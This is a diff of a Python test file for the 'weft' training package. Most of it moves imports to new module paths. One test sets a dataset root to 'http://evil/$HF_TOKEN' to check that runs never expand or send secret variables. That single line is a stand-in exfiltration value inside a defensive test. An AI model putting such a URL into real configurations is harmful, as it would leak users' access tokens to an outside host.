@@ -10,20 +10,20 @@ import pytest
 import yaml
 
 from weft.data.errors import WeftDataError
-from weft.train.backbones import load_backbone, planned_model
+from weft.train.backbones.loading import load_backbone, planned_model
+from weft.train.backbones.saved import saved_path
 from weft.train.cli import main
 from weft.train.errors import RecipeError, RunError
-from weft.train.exchange import plain_model
-from weft.train.few_shot.recipe import few_shot_recipe
-from weft.train.plain_yaml import fault_of, read_plain_yaml
-from weft.train.recipe import load_recipe
-from weft.train.recipe_files import BUILT_IN, built_in_recipes, find_recipe, merge, read_yaml
-from weft.train.recipe_kept import kept_text
-from weft.train.recipe_sections import BackboneSection
-from weft.train.saved_models import saved_path
-from weft.train.task_data import load_tasks
-from weft.train.tracked import tracking_store
-from weft.train.variables import SETTING, allow, expanded
+from weft.train.preflight.tasks import load_tasks
+from weft.train.recipe.few_shot import few_shot_recipe
+from weft.train.recipe.files import BUILT_IN, built_in_recipes, find_recipe, merge, read_yaml
+from weft.train.recipe.kept import kept_text
+from weft.train.recipe.plain_yaml import fault_of, read_plain_yaml
+from weft.train.recipe.sections import BackboneSection
+from weft.train.recipe.training import load_recipe
+from weft.train.recipe.variables import SETTING, allow, expanded
+from weft.train.runs.share import plain_model
+from weft.train.runs.tracked import tracking_store
 
 PIN = re.compile(r"[0-9a-f]{40}")
 
@@ -85,7 +85,7 @@ def test_a_run_sends_no_variable_anywhere(
     dry: list[str],
 ) -> None:
     opened: list[Any] = []
-    monkeypatch.setattr("weft.train.task_data.load_dataset", lambda *words, **more: opened.append(more))
+    monkeypatch.setattr("weft.train.preflight.tasks.load_dataset", lambda *words, **more: opened.append(more))
     values["tasks"]["vqa"]["data"]["root"] = "http://evil/$HF_TOKEN"
     assert told("train", written(tmp_path / "r.yaml", values), *dry) == 2
     said = capsys.readouterr().err
